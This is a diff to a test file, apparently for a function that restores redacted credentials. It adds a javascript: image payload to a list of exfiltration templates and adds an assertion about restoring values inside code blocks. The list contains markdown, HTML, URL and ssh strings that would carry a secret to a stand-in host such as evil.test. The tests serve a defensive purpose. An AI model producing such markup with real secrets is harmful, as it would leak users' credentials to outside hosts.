@@ -84,7 +84,7 @@ HOSTILE = [
     '<!-- <img alt=" --> <img src="https://evil.test/ a {}">', '<div>\n```\n<img src="https://evil.test/ a {}">\n```\n</div>',
     '```\n<img src="https://evil.test/ a {}">', "https://ok.test/?u=https://evil.test/{}", "https://ok.test/?u=https%3A%2F%2Fevil.test%2F{}",
     "https://evil.test/?a=\u00a0{}", 'https://evil.test/"{}', "git@evil.test:{}/x.git", "ssh://git@evil.test/{}", "{}@evil.test",
-    "![x]({}://evil.test/p)", "\u3002{}evil.com", "<form action='https://evil.test/'><input value='{}'>", "<base href='https://evil.test/'><img src='/{}'>", "\x1b]8;;https://evil.test/{}\x1b\\x", "https://ok.test:8443/{}", "http://ok.test:80/{}",
+    "![x]({}://evil.test/p)", "```\n<img src=javascript:{}>", "\u3002{}evil.com", "<form action='https://evil.test/'><input value='{}'>", "<base href='https://evil.test/'><img src='/{}'>", "\x1b]8;;https://evil.test/{}\x1b\\x", "https://ok.test:8443/{}", "http://ok.test:80/{}",
     "<img src=" + '"https://evil.test/' + "y " * 2000 + '{}">', "https://evil.test/" + "y" * 5000 + "{}", "$\\href{{https://evil.test/ {}}}{{x}}$",
 ]  # fmt: skip
 
@@ -123,6 +123,7 @@ def test_words_and_permitted_addresses_are_restored(text, expected):
 def test_removed_values_come_back_in_words_and_code_only():
     text = "key [CREDENTIAL_1] <input value='[CREDENTIAL_1]'> https://ok.test/[CREDENTIAL_1] [x](/y?k=[CREDENTIAL_1])"
     assert restored(text) == text.replace("key [CREDENTIAL_1]", "key s3cr3txq")
+    assert restored("```\ndata=[CREDENTIAL_1] x[1](/[CREDENTIAL_1])\n```") == "```\ndata=s3cr3txq x[1](/s3cr3txq)\n```"
     assert restored("password=[CREDENTIAL_1]\n```xml\n<a p='[CREDENTIAL_1]'/>\n```") == (
         "password=s3cr3txq\n```xml\n<a p='s3cr3txq'/>\n```"
     )
